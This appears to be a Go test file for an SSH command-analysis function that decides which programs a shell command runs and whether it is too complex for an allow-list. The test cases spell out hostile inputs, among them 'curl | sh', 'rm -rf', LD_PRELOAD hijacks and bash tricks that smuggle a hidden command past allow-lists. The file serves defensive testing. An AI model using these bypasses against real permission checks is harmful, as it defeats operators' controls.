package ssh

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
)

func TestExecFactsPrograms(t *testing.T) {
	tests := []struct {
		command  string
		programs string
		compound bool
	}{
		{"id -un", "id", false},
		{"/bin/rm -rf /tmp/x", "rm", false},
		{"cd /tmp && rm -rf x", "cd,rm", true},
		{"bash -c 'rm -rf /tmp/x'", "bash,rm", true},
		{"sh -ec \"cd /; rm x\"", "sh,cd,rm", true},
		{"env -i PATH=/bin rm x", "env,rm", true},
		{"FOO=1 sudo -u root nice -n 5 rm x", "sudo,nice,rm", true},
		{"timeout 5s rm x", "timeout,rm", false},
		{"ls | xargs -n 1 rm", "ls,xargs,rm", true},
		{"find /tmp -name '*.log' -exec rm {} \\;", "find,rm", true},
		{"su -c 'rm x' root", "su,rm", true},
		{"busybox rm x", "busybox,rm", false},
		{"nohup bash -lc 'curl http://x | sh'", "nohup,bash,curl,sh", true},
		{"echo $(rm x)", "echo,rm", true},
		{"sudo", "sudo", false},
		{"bash -c", "bash", true},
		{"bash script.sh", "bash", true},

		// bash evaluates the array subscript of a variable name given
		// to these builtins, quoted or not: $(...) there runs.
		{"test -v 'a[$(rm x)]'", "test", true},
		{"[ -v 'a[$(rm x)]' ]", "[", true},
		{"printf -v 'a[$(rm x)]' x", "printf", true},
		{"printf -v \"a[\\$(rm x)]\" x", "printf", true},
		{"read 'a[`rm x`]' <<<1", "read", true},
		{"unset 'a[$(rm x)]'", "unset", true},
		{"declare 'a[$(rm x)]=1'", "declare", true},
		{"export 'a[$(rm x)]'", "export", true},
		{"let 'a[$(rm x)]=1'", "let", true},
		{"wait -p 'a[$(rm x)]'", "wait", true},
		{"test -v $'a\\x5b$(rm x)]'", "test", true},
		{"sudo test -v 'a[$(rm x)]'", "sudo,test", true},
		{"mapfile -C 'rm x' -c 1", "mapfile", true},
		// ... and arithmetic evaluates the text of the variables it
		// names: TERM='a[$(rm x)]' makes these run rm with no $ in a word.
		{"let TERM", "let", true},
		{"declare -i x=TERM", "declare", true},
		{"local -ri x=TERM", "local", true},
		{"test -v 'a[TERM]'", "test", true},
		{"printf -v 'a[TERM]' x", "printf", true},
		{"read 'a[TERM]' <<<1", "read", true},
		{"declare x=TERM", "declare", false},
		{"test -f /etc/hosts", "test", false},
		{"printf '%s\\n' x", "printf", false},

		// A program word the shell changes runs what the facts cannot
		// name.
		{"$'\\x72m' x", "$'\\x72m'", true},
		{"r${IFS:0:0}m x", "r${IFS:0:0}m", true},
		{"/bin/r? x", "r?", true},
		{"{rm,x}", "{rm,x}", true},
		{"sudo $'\\x72m' x", "sudo,$'\\x72m'", true},

		// Assignments change what runs (PATH, LD_PRELOAD).
		{"PATH=/tmp/e ls", "ls", true},
		{"LD_PRELOAD=/tmp/x.so ls", "ls", true},
		{"env LD_PRELOAD=/tmp/x.so ls", "env,ls", true},
		{"sudo PATH=/tmp/e ls", "sudo,ls", true},

		// Wrappers: options read in full, code runners compound.
		{"bash -o pipefail -c 'rm x'", "bash,rm", true},
		{"bash --rcfile /dev/null -c 'rm x'", "bash,rm", true},
		{"bash -c -e 'rm x'", "bash,rm", true},
		{"bash -eo pipefail -c 'rm x'", "bash,rm", true},
		{"su root -c 'rm x'", "su,rm", true},
		{"su -lc 'rm x' root", "su,rm", true},
		{"runuser -u root -- rm x", "runuser,rm", true},
		{"env -S 'rm x'", "env,rm", true},
		{"env --split-string='rm x'", "env,rm", true},
		{"env -iS 'FOO=1 rm x'", "env,rm", true},
		{"env - rm x", "env,rm", false},
		{"env -C / rm x", "env,rm", false},
		{"sudo --user root rm x", "sudo,rm", false},
		{"sudo -s rm x", "sudo,rm", true},
		{"timeout --signal KILL 5 rm x", "timeout,rm", false},
		{"timeout --sig KILL 5 rm x", "timeout,rm", false},
		{"timeout -s KILL 5 rm x", "timeout,rm", false},
		{"timeout --bogus 5 rm x", "timeout,5,rm,x", true},
		{"nice --adjustment 1 rm x", "nice,rm", false},
		{"nice -10 rm x", "nice,rm", false},
		{"xargs -0 rm", "xargs,rm", false},
		{"exec -a foo rm x", "exec,rm", false},
		{"command rm x", "command,rm", false},
		{"builtin eval 'rm x'", "builtin,eval,rm", true},
		{"flock /tmp/l -c 'rm x'", "flock,rm", true},
		{"flock -c 'rm x' /tmp/l", "flock,rm", true},
		{"chroot /srv", "chroot", true},
		{"eval 'rm x'", "eval,rm", true},
		{"trap 'rm x' EXIT", "trap,rm", true},
		{"source /tmp/x.sh", "source", true},
		{". /tmp/x.sh", ".", true},
		{"enable -f /tmp/x.so x", "enable", true},
		{"script -qc 'rm x' /dev/null", "script,rm x,rm,null", true},
		{"strace -o /dev/null rm x", "strace,null,rm,x", true},
		{"unshare -r rm x", "unshare,rm,x", true},

		// The audit's bypasses: a word that find or a wrapper reads is
		// changed by the shell (ANSI-C quoting, brace expansion, IFS
		// splitting), so another program runs than the words say.
		{"find DIR/f -maxdepth 0 $'-exec' touch DIR/pwn $';'", "find", true},
		{"find DIR/f -maxdepth 0 {-exec,touch,DIR/pwn,\\;}", "find", true},
		{"timeout {5,touch} cat DIR/pwn", "timeout,cat", true},
		{"nice -n 5${IFS}touch cat DIR/pwn", "nice,cat", true},
		{"jobs -x touch DIR/pwn", "jobs,touch", true},
		// ... and their kin.
		{"timeout -s {KILL,5} touch DIR/pwn", "timeout,pwn", true},
		{"timeout \"$T\" touch x", "timeout,touch", true},
		{"env -u {X,touch} x", "env,x", true},
		{"sudo -u {root,touch} x", "sudo,x", true},
		{"exec -a {x,touch} y", "exec,y", true},
		{"xargs -I {x,touch} y", "xargs,y", true},
		{"nice {-n,5,touch} x", "nice,{-n,5,touch}", true},
		{"find . -exe? touch x ';'", "find", true},
		{"find . -exec cat {} $'\\x3b' -exec touch x \\;", "find,cat", true},
		{"jobs {-x,touch,x}", "jobs", true},
		{"jobs -lx touch x", "jobs,touch", true},
		{"declare {-i,x=TERM}", "declare", true},
		{"declare -? x=TERM", "declare", true},
		{"test -v ???????", "test", true},

		// Literal words (quotes removed, nothing else changed) are
		// read; words after a wrapper's command are its command's.
		{"find . -name '*.log' -exec rm {} \\;", "find,rm", true},
		{"find . -name \"*.log\" -exec rm {} ';'", "find,rm", true},
		{"find /tmp -name '*.log'", "find", false},
		{"find /tmp -name \\*.log -type f -print", "find", false},
		{"timeout 5 ls", "timeout,ls", false},
		{"timeout '5' \"ls\" -la", "timeout,ls", false},
		{"nice -n 5 cat x", "nice,cat", false},
		{"timeout 5 cat \"$HOME/x\" *.log", "timeout,cat", false},
		{"sudo -u root ls $HOME ~/x {a,b}", "sudo,ls", false},
		{"xargs -0 -I{} cat {}", "xargs,cat", false},
		{"jobs", "jobs", false},
		{"jobs -l %1", "jobs", false},
		{"ls -la", "ls", false},
		{"cat /var/log/syslog", "cat", false},
		{"systemctl status nginx", "systemctl", false},
		{"grep -E 'a|b' file", "grep", false},
		{"df -h", "df", false},
		{"ps aux", "ps", false},
		{"ls $HOME *.log {a,b}", "ls", false},
		// A conservative loss: find reads every word, so one the shell
		// expands makes the command compound.
		{"find ~ -name x", "find", true},
		{"find \"$HOME\" -name x", "find", true},

		// Other builtins that run a command given as arguments.
		{"command touch x", "command,touch", false},
		{"builtin exec touch x", "builtin,exec,touch", false},
		{"exec touch x", "exec,touch", false},
		{"time touch x", "touch", true},
		{"time -p touch x", "touch", true},
		{"coproc touch x", "touch", true},
		{"fc -s touch", "fc", true},
	}
	for _, tc := range tests {
		f, err := ExecFacts(tc.command)
		if err != nil {
			t.Errorf("%s: %v", tc.command, err)
			continue
		}
		if got := strings.Join(f.Programs, ","); got != tc.programs || f.Compound != tc.compound {
			t.Errorf("%s: programs %s compound %v, want %s %v", tc.command, got, f.Compound, tc.programs, tc.compound)
		}
	}
	for _, tc := range []struct {
		command            string
		paths, assignments string
	}{
		{"ls", "ls", ""},
		{"/tmp/e/ls -l", "/tmp/e/ls", ""},
		{"./ls && /bin/cat x", "./ls,/bin/cat", ""},
		{"sudo ../ls", "sudo,../ls", ""},
		{"A=1 B=2 ls", "ls", "A=1,B=2"},
		{"env -i PATH=/bin LD_PRELOAD=/x.so ls", "env,ls", "PATH=/bin,LD_PRELOAD=/x.so"},
	} {
		f, err := ExecFacts(tc.command)
		if err != nil {
			t.Errorf("%s: %v", tc.command, err)
			continue
		}
		if got := strings.Join(f.ProgramPaths, ","); got != tc.paths {
			t.Errorf("%s: program paths %s, want %s", tc.command, got, tc.paths)
		}
		if got := strings.Join(f.Assignments, ","); got != tc.assignments {
			t.Errorf("%s: assignments %s, want %s", tc.command, got, tc.assignments)
		}
	}
	if _, err := ExecFacts("echo 'unterminated"); err == nil {
		t.Error("an unterminated quote was read")
	}
	// Nesting is bounded, and then opaque (compound).
	deep := "rm x"
	for range maxUnwrap + 1 {
		deep = "sh -c " + shellQuote(deep)
	}
	if f, err := ExecFacts(deep); err != nil || !f.Compound || len(f.Programs) != maxUnwrap+1 {
		t.Errorf("deep nesting: programs %v compound %v, %v", f.Programs, f.Compound, err)
	}
}

// TestExecFactsShellChangedWords runs, in real bash, commands that the
// audit's allow-list (!ssh.compound and only ls, cat, find, timeout, nice,
// jobs, exec, env, declare and test) once allowed while bash ran touch: a
// word that find, a wrapper or a subscript-evaluating builtin reads is
// changed by the shell ($'-exec', brace expansion, ${IFS} splitting, a
// glob), or the program runs a command of its own (jobs -x). Each must
// run the payload, so the test means something, and be compound.
func TestExecFactsShellChangedWords(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash is not installed")
	}
	allowed := []string{"ls", "cat", "find", "timeout", "nice", "jobs", "exec", "env", "declare", "test"}
	for _, tc := range []struct {
		command string
		files   []string // made in DIR, bash's working folder
	}{
		{command: "find DIR/f -maxdepth 0 $'-exec' touch DIR/pwn $';'"},
		{command: "find DIR/f -maxdepth 0 {-exec,touch,DIR/pwn,\\;}"},
		{command: "timeout {5,touch} cat DIR/pwn"},
		{command: "nice -n 5${IFS}touch cat DIR/pwn"},
		{command: "jobs -x touch DIR/pwn"},
		{command: "jobs {-x,touch,DIR/pwn}"},
		{command: "timeout -s {KILL,5} touch DIR/pwn"},
		{command: "env -u {X,touch} DIR/pwn"},
		{command: "exec -a {x,touch} DIR/pwn"},
		{command: "find DIR/f -maxdepth 0 -exe? touch DIR/pwn ';'", files: []string{"-exec"}},
		// TERM holds a[$(touch DIR/pwn)]: bash runs the subscript's
		// substitution when it evaluates TERM as arithmetic.
		{command: "declare {-i,x=TERM}"},
		{command: "declare -? x=TERM", files: []string{"-i"}},
		{command: "test -v ???????", files: []string{"a[TERM]"}},
	} {
		dir := t.TempDir()
		for _, name := range append(tc.files, "f") {
			if err := os.WriteFile(filepath.Join(dir, name), nil, 0o600); err != nil {
				t.Fatal(err)
			}
		}
		command := strings.ReplaceAll(tc.command, "DIR", dir)
		f, err := ExecFacts(command)
		if err != nil {
			t.Errorf("%s: %v", command, err)
			continue
		}
		if !f.Compound {
			t.Errorf("%s: not compound (programs %q)", command, f.Programs)
		}
		if !f.Compound && !slices.ContainsFunc(f.ProgramPaths, func(p string) bool { return !slices.Contains(allowed, p) }) {
			t.Errorf("%s: the allow-list allows it", command)
		}
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		cmd := exec.CommandContext(ctx, bash, "-c", command)
		cmd.Dir = dir
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "TERM=a[$(touch " + filepath.Join(dir, "pwn") + ")]"}
		_ = cmd.Run() // errors are expected (timeout's signal, cat's missing file)
		cancel()
		if _, err := os.Stat(filepath.Join(dir, "pwn")); err != nil {
			t.Errorf("bash -c %q did not run touch: the test is wrong", command)
		}
	}
}

func shellQuote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func FuzzExecFacts(f *testing.F) {
	for _, s := range []string{"id", "bash -c 'rm x'", "find . -exec rm {} +", "env A=1 sudo -u x timeout 1 xargs rm",
		"strace strace strace 'a b' -c 'x y'", "env -S 'sudo -s x' su -c 'y'",
		"find d/f -maxdepth 0 $'-exec' touch d/pwn $';'", "find d/f -maxdepth 0 {-exec,touch,d/pwn,\\;}",
		"timeout {5,touch} cat d/pwn", "nice -n 5${IFS}touch cat d/pwn", "jobs -x touch d/pwn",
		"env -S 'a=1 -u' {X,touch} -- x", "sudo -u \"$U\" -- nice -n$N ls",
		"start-stop-daemon -Sx/bin/rm -a x -- y", "runuser -u root -- rm", "repeat 3 do rm; done",
		"ip netns exec n rm", "gosu u rm", "nocache -n 2 rm", "systemd-nspawn -D / --private-users=pick rm"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, command string) {
		ExecFacts(command) // no panic, bounded work
	})
}
